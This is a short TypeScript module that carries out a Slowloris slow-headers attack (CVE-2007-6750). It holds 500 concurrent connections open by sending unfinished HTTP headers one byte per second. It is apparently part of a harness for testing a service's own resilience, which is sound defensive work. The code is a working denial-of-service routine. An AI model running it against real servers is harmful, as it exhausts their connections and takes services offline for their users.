// Slowloris: headers that never end, a byte a second (CVE-2007-6750).
import type { Attack } from './attack.ts';
import { closed, connect, repeat, trickle } from './connection.ts';

export const slowHeaders: Attack = {
  title: 'slow headers, HTTP/1.1',
  async run(target) {
    const opened = await repeat(target, 500, async () => {
      const socket = await connect(target);
      if (socket === undefined) return;
      socket.write('GET /v1/health HTTP/1.1\r\nHost: localhost\r\nX: ');
      await trickle(target, socket, 'x'.repeat(1_000), 1_000);
      await closed(socket);
    });
    return `${opened} connections, 500 at a time`;
  },
};
